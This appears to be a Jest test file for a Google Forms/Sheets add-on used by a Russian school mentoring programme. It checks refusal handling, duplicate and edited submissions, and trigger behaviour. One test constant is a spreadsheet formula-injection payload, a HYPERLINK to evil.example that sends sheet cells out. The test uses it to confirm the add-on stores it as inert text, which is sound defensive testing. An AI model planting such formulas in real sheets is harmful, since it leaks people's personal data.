import { CONSENT_NO } from '../../src/domain/forms/consent';
import { WITHDRAWN_NAME } from '../../src/domain/forms/intake';
import {
  Q,
  builtWithForms,
  formulaCount,
  journal,
  menteeAnswers,
  mentorAnswers,
  rowsOf,
  setting,
} from './built';

/**
 * Issue 10 points 1, 4, 15, 16, 17: what the built add-on does with the events Google really sends, through
 * the real form-submit trigger its setup created.
 */

const RESPONSES = 'Ответы: анкета наставляемого';

/** «Нет» to the consent sends the form from its first page (page navigation SUBMIT): only the name is typed. */
const refusal = (name: string) => ({ [Q['mentee.fullName']]: name, [Q['mentee.consentPd']]: CONSENT_NO });
const PAYLOAD = `=HYPERLINK("https://evil.example/?d="&ENCODEURL(JOIN(",",'Наставляемые'!B2:C40)),"Подробнее")`;
const BULLETS = '- научиться планировать уроки\n- освоить работу с родителями';

describe('10.1 blanking response rows never writes back what it read', () => {
  it('an outsider’s refusal leaves two other teachers’ formula-like answers as text (formula cells: 2 → 0)', () => {
    const a = builtWithForms();
    const outsider = 'outsider@mail.example';
    a.emulator.submitForm(a.menteeForm, menteeAnswers('Посторонний Пётр Петрович'), outsider);
    a.emulator.submitForm(
      a.menteeForm,
      menteeAnswers('Петрова Анна Ивановна', { [Q['mentee.expectations']]: BULLETS }),
      'petrova@school.example',
    );
    a.emulator.submitForm(
      a.menteeForm,
      menteeAnswers('Сидорова Мария Олеговна', { [Q['mentee.expectations']]: PAYLOAD }),
      'sidorova@school.example',
    );
    a.emulator.submitForm(a.menteeForm, menteeAnswers('Посторонний Пётр Петрович'), outsider);
    a.emulator.submitForm(a.menteeForm, refusal('Посторонний Пётр Петрович'), outsider);

    const sheet = a.sheet(RESPONSES);
    expect(formulaCount(sheet)).toBe(0);
    const expectations = rowsOf(sheet).map((r) => r[Q['mentee.expectations']]);
    expect(expectations).toContain(BULLETS);
    expect(expectations).toContain(PAYLOAD);
    // The outsider's three rows are blank; the two teachers are untouched, also after a rebuild.
    expect(rowsOf(sheet).filter((r) => r['Адрес электронной почты'] === outsider)).toHaveLength(0);
    a.run('intake:rebuild:2.2');
    const names = rowsOf(a.sheet('Наставляемые')).map((r) => r['ФИО']);
    expect(names).toEqual(expect.arrayContaining(['Петрова Анна Ивановна', 'Сидорова Мария Олеговна']));
    expect(formulaCount(a.sheet('Наставляемые'))).toBe(0);
  });
});

describe('10.4 a duplicate submit event after the de-duplication cache expired changes nothing', () => {
  it('re-delivered 7 hours later: no journal line, refusal count unchanged', () => {
    const a = builtWithForms();
    a.emulator.submitForm(a.menteeForm, menteeAnswers('Петрова Анна Ивановна'), 'petrova@school.example');
    a.emulator.submitForm(a.menteeForm, refusal('Иванов Иван Иванович'), 'ivanov@school.example');
    const lines = journal(a.ss).length;
    expect(setting(a.ss, 'form.mentee.refused')).toBe('1');
    a.emulator.ctx.advance(7 * 3600 * 1000); // CacheService keeps a value at most 6 hours
    a.emulator.redeliverLastSubmit(a.menteeForm);
    expect(journal(a.ss)).toHaveLength(lines);
    expect(setting(a.ss, 'form.mentee.refused')).toBe('1');
    // A genuine answer re-delivered changes nothing either.
    a.emulator.submitForm(a.menteeForm, menteeAnswers('Орлова Вера Ильинична'), 'orlova@school.example');
    const after = journal(a.ss).length;
    a.emulator.ctx.advance(7 * 3600 * 1000);
    a.emulator.redeliverLastSubmit(a.menteeForm);
    expect(journal(a.ss)).toHaveLength(after);
    expect(rowsOf(a.sheet('Наставляемые'))).toHaveLength(2);
  });
});

describe('10.15 an edited response updates the person', () => {
  it('an edit event carrying only the changed answer and the e-mail keeps consent and updates the row', () => {
    const a = builtWithForms();
    a.emulator.submitForm(
      a.mentorForm,
      mentorAnswers('Смирнова Ольга Викторовна'),
      'smirnova@school.example',
    );
    a.emulator.editResponse(a.mentorForm, 'smirnova@school.example', { [Q['mentor.capacity']]: '3' });

    const mentors = rowsOf(a.sheet('Наставники'));
    expect(mentors).toHaveLength(1);
    expect(mentors[0]['ФИО']).toBe('Смирнова Ольга Викторовна');
    expect(mentors[0]['Статус']).not.toBe('отказ');
    expect(mentors[0]['Наставляемых, не более']).toBe(3);
    expect(journal(a.ss, 'Отзыв согласия')).toHaveLength(0);
    // The response row still holds the whole answer.
    const row = rowsOf(a.sheet('Ответы: анкета наставника'))[0];
    expect(row[Q['mentor.fullName']]).toBe('Смирнова Ольга Викторовна');
  });

  it('an edit that withdraws consent is a refusal: the person is anonymised', () => {
    const a = builtWithForms();
    a.emulator.submitForm(
      a.mentorForm,
      mentorAnswers('Смирнова Ольга Викторовна'),
      'smirnova@school.example',
    );
    a.emulator.editResponse(a.mentorForm, 'smirnova@school.example', {
      [Q['mentor.consentPd']]: CONSENT_NO,
    });
    expect(rowsOf(a.sheet('Наставники'))[0]['ФИО']).toBe(WITHDRAWN_NAME);
  });
});

describe('10.16 blank duplicate submit events change nothing and are logged', () => {
  it('a blank event seconds after a real answer neither withdraws nor blanks it', () => {
    const a = builtWithForms();
    a.emulator.submitForm(a.menteeForm, menteeAnswers('Петрова Анна Ивановна'), 'petrova@school.example');
    a.emulator.ctx.advance(3000);
    a.emulator.fireBlankDuplicateSubmit(a.menteeForm);

    const mentees = rowsOf(a.sheet('Наставляемые'));
    expect(mentees.map((m) => [m['ФИО'], m['Статус']])).toEqual([['Петрова Анна Ивановна', 'в базе']]);
    expect(rowsOf(a.sheet(RESPONSES))[0][Q['mentee.fullName']]).toBe('Петрова Анна Ивановна');
    expect(setting(a.ss, 'form.mentee.refused')).toBe('0');
    expect(journal(a.ss, 'Пустое событие отправки формы')).toHaveLength(1);
  });
});

describe('10.17 a form-submit trigger without a document cache or lock', () => {
  it('accepts every submission and still ignores a re-delivered one', () => {
    const a = builtWithForms();
    a.emulator.setTriggersHaveDocument(false);
    a.emulator.submitForm(a.menteeForm, menteeAnswers('Петрова Анна Ивановна'), 'petrova@school.example');
    a.emulator.submitForm(a.menteeForm, menteeAnswers('Орлова Вера Ильинична'), 'orlova@school.example');
    a.emulator.redeliverLastSubmit(a.menteeForm);
    expect(rowsOf(a.sheet('Наставляемые')).map((r) => r['ФИО'])).toEqual([
      'Петрова Анна Ивановна',
      'Орлова Вера Ильинична',
    ]);
    expect(journal(a.ss, 'Анкета принята')).toHaveLength(2);
  });
});
